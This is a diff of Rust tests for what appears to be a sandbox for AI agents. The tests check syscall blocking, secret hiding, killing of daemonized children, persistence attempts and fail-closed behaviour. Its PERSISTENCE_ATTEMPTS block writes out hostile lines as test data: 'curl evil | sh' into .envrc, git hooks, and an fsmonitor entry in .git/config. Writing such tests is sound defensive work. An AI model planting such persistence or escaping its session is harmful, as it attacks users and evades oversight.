+        "{}",
+        describe(&o)
+    );
+    let stdout = text(&o.stdout);
+    assert!(stdout.contains("before=1"), "{}", describe(&o));
+    assert!(
+        !stdout.contains("after="),
+        "the i386 syscall returned: {}",
+        describe(&o)
+    );
+}
+
+#[test]
+fn io_uring_setup_is_eperm() {
+    let ctx = Ctx::new();
+    let o = run_python(
+        &ctx,
+        r#"
+params = ctypes.create_string_buffer(120)
+out("io_uring_setup", -sc(425, 8, ctypes.addressof(params)))
+out("io_uring_enter", -sc(426, 0, 0, 0, 0, 0, 0))
+out("io_uring_register", -sc(427, 0, 0, 0, 0))
+"#,
+    );
+    let m = kv(&o);
+    for k in ["io_uring_setup", "io_uring_enter", "io_uring_register"] {
+        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
+    }
+}
+
+#[test]
+fn capabilities_no_new_privs_and_seccomp_in_proc_status() {
+    check_status_no_privileges(User::Caller);
+}
+
+#[test]
+fn unprivileged_capabilities_no_new_privs_and_seccomp_in_proc_status() {
+    check_status_no_privileges(User::Nobody);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Attacks: what the agent inherits, and lifecycle
+// ---------------------------------------------------------------------------------------------------------
+
+#[test]
+fn inherited_fd_and_secret_env_are_invisible() {
+    let ctx = Ctx::new();
+    let secret_file = ctx.root.path().join("inherited.txt");
+    std::fs::write(&secret_file, "inherited-secret").unwrap();
+    let opts = Opts {
+        env: &[
+            ("SECRET_TOKEN", "s3cr3t-value"),
+            ("AWS_SECRET_ACCESS_KEY", "also-secret"),
+        ],
+        inherit_fd: Some((&secret_file, 7)),
+        ..Default::default()
+    };
+    let program = format!(
+        r#"{PY_PRELUDE}
+import fcntl, stat
+fds = [fd for fd in range(0, 256) if err(fcntl.fcntl, fd, fcntl.F_GETFD) == 0]
+out("fds", ",".join(map(str, fds)))
+out("fd3_socket", int(stat.S_ISSOCK(os.fstat(3).st_mode)))
+out("environ", ",".join(sorted(os.environ)))
+out("secret_in_environ", int(any("s3cr3t" in v or "also-secret" in v for v in os.environ.values())))
+out("ZT_AAS_FD", os.environ.get("ZT_AAS_FD", ""))
+out("ZT_AAS_SESSION", os.environ.get("ZT_AAS_SESSION", ""))
+"#
+    );
+    let o = run_with(&ctx, &opts, &["/usr/bin/python3", "-c", &program]);
+    let m = kv(&o);
+    assert_eq!(m["fds"], "0,1,2,3", "{m:?}");
+    assert_eq!(num(&m, "fd3_socket"), 1);
+    assert!(
+        !m["environ"]
+            .split(',')
+            .any(|k| k == "SECRET_TOKEN" || k == "AWS_SECRET_ACCESS_KEY"),
+        "{m:?}"
+    );
+    assert_eq!(num(&m, "secret_in_environ"), 0);
+    assert_eq!(m["ZT_AAS_FD"], "3");
+    assert!(!m["ZT_AAS_SESSION"].is_empty(), "{m:?}");
+
+    // The shell's view, and zt-aas on PATH.
+    let o = run_with(
+        &ctx,
+        &opts,
+        &[
+            "sh",
+            "-c",
+            "env; echo fds=$(ls /proc/self/fd | tr '\\n' ' '); command -v zt-aas",
+        ],
+    );
+    let out = ok_stdout(&o);
+    assert!(
+        !out.contains("SECRET_TOKEN") && !out.contains("s3cr3t"),
+        "{out}"
+    );
+    let fds: Vec<&str> = out
+        .lines()
+        .find_map(|l| l.strip_prefix("fds="))
+        .unwrap()
+        .split_whitespace()
+        .collect();
+    // ls opens the directory itself (one more descriptor, numbered 4).
+    assert_eq!(fds, ["0", "1", "2", "3", "4"], "{out}");
+    assert!(
+        out.lines().last().unwrap().ends_with("/zt-aas"),
+        "zt-aas is not on PATH: {out}"
+    );
+}
+
+#[test]
+fn daemonized_child_is_gone_when_run_returns() {
+    let ctx = Ctx::new();
+    let marker = unique("daemon");
+    // setsid + double fork, then exec `sleep 300` named after the marker; the agent waits until the daemon
+    // is really running (visible in its own /proc), then returns.
+    let o = run_python(
+        &ctx,
+        &format!(
+            r#"
+import glob, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        fd = os.open("/dev/null", os.O_RDWR)
+        for i in (0, 1, 2):
+            os.dup2(fd, i)
+        {exec}
+    os._exit(0)
+os.wait()
+def running():
+    for p in glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            if "{rev}"[::-1].encode() in open(p, "rb").read():
+                return True
+        except OSError:
+            pass
+    return False
+deadline = time.time() + 30
+while not running() and time.time() < deadline:
+    time.sleep(0.05)
+out("daemon_running", int(running()))
+"#,
+            exec = marked_sleep_py(&marker),
+            rev = reversed(&marker),
+        ),
+    );
+    let leftovers = host_pids_with(&marker);
+    kill_marked(&marker);
+    assert_eq!(
+        num(&kv(&o), "daemon_running"),
+        1,
+        "the daemon never started: {}",
+        describe(&o)
+    );
+    assert!(
+        leftovers.is_empty(),
+        "daemon still alive after run returned: host pids {leftovers:?}"
+    );
+}
+
+#[test]
+fn sigkilled_supervisor_takes_the_agent_down() {
+    let ctx = Ctx::new();
+    let marker = unique("orphan");
+    let program = marked_sleep_py(&marker);
+    let mut running = spawn(
+        &ctx,
+        &Opts::default(),
+        &["/usr/bin/python3", "-c", &program],
+    );
+    let started = wait_until(Duration::from_secs(60), || {
+        !host_pids_with(&marker).is_empty()
+    });
+    if !started {
+        kill_marked(&marker);
+        panic!("the agent never started");
+    }
+    // SAFETY: SIGKILL to the zt-aas process this test started.
+    assert_eq!(unsafe { libc::kill(running.pid(), libc::SIGKILL) }, 0);
+    let status = running.child.wait().unwrap();
+    assert_eq!(status.signal(), Some(libc::SIGKILL));
+    let gone = wait_until(Duration::from_secs(20), || {
+        host_pids_with(&marker).is_empty()
+    });
+    let leftovers = host_pids_with(&marker);
+    kill_marked(&marker);
+    assert!(
+        gone,
+        "the agent survived its supervisor: host pids {leftovers:?}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Attacks: persistence in the workspace
+// ---------------------------------------------------------------------------------------------------------
+
+/// Shell lines trying to plant files the user runs later; each prints `name=0` on success, `name=1` else.
+const PERSISTENCE_ATTEMPTS: &str = r##"
+try() { name=$1; shift; if "$@" 2>/dev/null; then echo "$name=0"; else echo "$name=1"; fi; }
+try hook sh -c 'mkdir -p .git/hooks && echo "#!/bin/sh" > .git/hooks/x'
+try hook_precommit sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit'
+try envrc sh -c 'echo "curl evil | sh" > .envrc'
+try envrc_rename sh -c 'echo evil > evil.tmp && mv -f evil.tmp .envrc'
+try vscode sh -c 'echo {} > .vscode/tasks.json'
+try git_rename mv .git .git2
+try hooks_remove rm -rf .git/hooks
+try hooks_rename mv .git/hooks .git/hooks.old
+"##;
+
+fn assert_persistence_refused(ctx: &Ctx, extra_script: &str, extra_keys: &[&str]) {
+    let o = run_in_sandbox(ctx, &format!("{PERSISTENCE_ATTEMPTS}{extra_script}"));
+    let m = kv(&o);
+    let keys = [
+        "hook",
+        "hook_precommit",
+        "envrc",
+        "envrc_rename",
+        "vscode",
+        "git_rename",
+        "hooks_remove",
+        "hooks_rename",
+    ];
+    for k in keys.iter().chain(extra_keys) {
+        assert_eq!(num(&m, k), 1, "`{k}` succeeded: {m:?}");
+    }
+    assert!(!ctx.ws.join(".git/hooks/x").exists());
+    assert!(!ctx.ws.join(".git/hooks/pre-commit").exists());
+    assert!(!ctx.ws.join(".git2").exists());
+    assert!(!ctx.ws.join(".vscode/tasks.json").exists());
+}
+
+#[test]
+fn persistence_files_cannot_be_planted_in_a_fresh_workspace() {
+    let ctx = Ctx::new();
+    assert_persistence_refused(&ctx, "", &[]);
+    // The placeholders created for the run are gone again (they were unused); only the agent's own file
+    // remains.
+    let mut left: Vec<String> = std::fs::read_dir(&ctx.ws)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    left.sort();
+    assert_eq!(
+        left,
+        ["evil.tmp"],
+        "placeholders left behind in the workspace"
+    );
+}
+
+#[test]
+fn persistence_files_cannot_be_planted_in_an_existing_git_repo() {
+    let ctx = Ctx::new();
+    let init = Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&ctx.ws)
+        .status()
+        .unwrap();
+    assert!(init.success());
+    std::fs::create_dir_all(ctx.ws.join(".git/hooks")).unwrap();
+    let config_before = std::fs::read(ctx.ws.join(".git/config")).unwrap();
+    let extra =
+        "try git_config sh -c 'printf \"[core]\\n\\tfsmonitor = evil\\n\" >> .git/config'\n";
+    assert_persistence_refused(&ctx, extra, &["git_config"]);
+    assert_eq!(
+        std::fs::read(ctx.ws.join(".git/config")).unwrap(),
+        config_before
+    );
+    assert!(
+        ctx.ws.join(".git/HEAD").is_file(),
+        "the repository was damaged"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// The positive side
+// ---------------------------------------------------------------------------------------------------------
+
+#[test]
+fn sh_pipeline_works() {
+    let ctx = Ctx::new();
+    let o = run_in_sandbox(&ctx, "printf 'a\\nb\\n' | sort -r | head -1");
+    assert_eq!(ok_stdout(&o), "b\n");
+}
+
+#[test]
+fn python3_works() {
+    let ctx = Ctx::new();
+    let o = run_with(
+        &ctx,
+        &Opts::default(),
+        &["python3", "-c", "import hashlib, json; print(json.dumps({'x': hashlib.sha256(b'abc').hexdigest()[:8]}))"],
+    );
+    assert_eq!(ok_stdout(&o), "{\"x\": \"ba7816bf\"}\n");
+}
+
+#[test]
+fn git_init_add_commit_in_the_workspace() {
+    check_git_commit(User::Caller);
+}
+
+#[test]
+fn unprivileged_git_init_add_commit_in_the_workspace() {
+    check_git_commit(User::Nobody);
+}
+
+#[test]
+fn private_tmp_is_writable_and_not_the_hosts() {
+    let ctx = Ctx::new();
+    let host_name = unique("host-tmp");
+    let host_file = PathBuf::from("/tmp").join(&host_name);
+    std::fs::write(&host_file, "host").unwrap();
+    let inside_name = unique("inside-tmp");
+    let o = run_in_sandbox(
+        &ctx,
+        &format!(
+            "echo data > /tmp/{inside_name} && cat /tmp/{inside_name} && \
+             if [ -e /tmp/{host_name} ]; then echo host-visible; fi; echo TMPDIR=$TMPDIR"
+        ),
+    );
+    let _ = std::fs::remove_file(&host_file);
+    assert_eq!(ok_stdout(&o), "data\nTMPDIR=/tmp\n");
+    assert!(
+        !Path::new("/tmp").join(&inside_name).exists(),
+        "the sandbox wrote to the host's /tmp"
+    );
+}
+
+#[test]
+fn ten_megabytes_of_stdout_arrive_intact() {
+    let ctx = Ctx::new();
+    let o = run_in_sandbox(&ctx, "head -c 10000000 /dev/zero | tr '\\0' a");
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(o.stdout.len(), 10_000_000);
+    assert!(o.stdout.iter().all(|&b| b == b'a'));
+}
+
+#[test]
+fn stdin_is_piped_through() {
+    let ctx = Ctx::new();
+    let o = run_with(
+        &ctx,
+        &Opts {
+            stdin: Some(b"hi\n"),
+            ..Default::default()
+        },
+        &["cat"],
+    );
+    assert_eq!(ok_stdout(&o), "hi\n");
+    let big: Vec<u8> = (0..1_000_000u32).map(|i| b'a' + (i % 26) as u8).collect();
+    let o = run_with(
+        &ctx,
+        &Opts {
+            stdin: Some(&big),
+            ..Default::default()
+        },
+        &["wc", "-c"],
+    );
+    assert_eq!(ok_stdout(&o).trim(), "1000000");
+}
+
+#[test]
+fn exit_codes_are_propagated() {
+    check_exit_codes(User::Caller);
+}
+
+#[test]
+fn unprivileged_exit_codes_are_propagated() {
+    check_exit_codes(User::Nobody);
+}
+
+#[test]
+fn missing_command_is_127_and_non_executable_is_126() {
+    let ctx = Ctx::new();
+    let o = run_with(&ctx, &Opts::default(), &["zt-no-such-command"]);
+    assert_eq!(o.status.code(), Some(127), "{}", describe(&o));
+    assert!(
+        text(&o.stderr).contains("zt-no-such-command"),
+        "{}",
+        describe(&o)
+    );
+    let script = ctx.ws.join("not-executable.sh");
+    std::fs::write(&script, "#!/bin/sh\necho ran\n").unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let o = run_with(&ctx, &Opts::default(), &[script.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(126), "{}", describe(&o));
+    assert!(!text(&o.stdout).contains("ran"));
+}
+
+#[test]
+fn sigterm_is_forwarded_to_the_agent() {
+    let ctx = Ctx::new();
+    let ready = ctx.ws.join("ready");
+    let script = format!(
+        "trap 'exit 7' TERM; touch {}; while :; do sleep 0.1; done",
+        ready.display()
+    );
+    let running = spawn(&ctx, &Opts::default(), &["sh", "-c", &script]);
+    assert!(
+        wait_until(Duration::from_secs(60), || ready.exists()),
+        "the agent never started"
+    );
+    // SAFETY: SIGTERM to the zt-aas process this test started.
+    assert_eq!(unsafe { libc::kill(running.pid(), libc::SIGTERM) }, 0);
+    let o = running.wait();
+    assert_eq!(o.status.code(), Some(7), "{}", describe(&o));
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Fail closed
+// ---------------------------------------------------------------------------------------------------------
+
+#[test]
+fn without_userns_run_refuses_unless_degraded_is_allowed() {
+    let ctx = Ctx::new();
+    let disable = [("ZT_AAS_TEST_DISABLE", "userns")];
+    let o = run_with(
+        &ctx,
+        &Opts {
+            env: &disable,
+            ..Default::default()
+        },
+        &["sh", "-c", "echo ran"],
+    );
+    assert_eq!(o.status.code(), Some(125), "{}", describe(&o));
+    assert!(o.stdout.is_empty(), "the agent ran: {}", describe(&o));
+    let err = text(&o.stderr);
+    assert!(
+        err.contains("userns") && err.contains("--allow-degraded"),
+        "{err}"
+    );
+
+    // Opted in: it runs, says so, and Landlock + seccomp still hold.
+    let secret = ctx.root.path().join("secret.txt");
+    std::fs::write(&secret, "secret").unwrap();
+    let opts = Opts {
+        env: &disable,
+        flags: &["--allow-degraded"],
+        ..Default::default()
+    };
+    let program = format!(
+        "{PY_PRELUDE}\nout('secret', err(lambda: open({:?}).read()))\n\
+         out('inet', err(socket.socket, socket.AF_INET, socket.SOCK_STREAM))\nout('ran', 1)",
+        secret.to_str().unwrap()
+    );
+    let o = run_with(&ctx, &opts, &["/usr/bin/python3", "-c", &program]);
+    let m = kv(&o);
+    assert_eq!(num(&m, "ran"), 1);
+    assert_eq!(
+        num(&m, "secret"),
+        libc::EACCES as i64,
+        "Landlock must hide the host file: {m:?}"
+    );
+    assert_eq!(num(&m, "inet"), EAFNOSUPPORT, "{m:?}");
+    assert!(
+        text(&o.stderr).to_lowercase().contains("degraded"),
+        "degraded mode must be reported on stderr: {}",
+        describe(&o)
+    );
+}
+
+#[test]
+fn without_landlock_run_refuses_even_when_degraded_is_allowed() {
+    let ctx = Ctx::new();
+    let disable = [("ZT_AAS_TEST_DISABLE", "landlock")];
+    for flags in [&[][..], &["--allow-degraded"][..]] {
+        let o = run_with(
+            &ctx,
+            &Opts {
+                env: &disable,
+                flags,
+                ..Default::default()
+            },
+            &["sh", "-c", "echo ran"],
+        );
+        assert_eq!(
+            o.status.code(),
+            Some(125),
+            "flags {flags:?}: {}",
+            describe(&o)
+        );
+        assert!(o.stdout.is_empty(), "the agent ran: {}", describe(&o));
+        assert!(
+            text(&o.stderr).to_lowercase().contains("landlock"),
+            "{}",
+            describe(&o)
+        );
+    }
+}
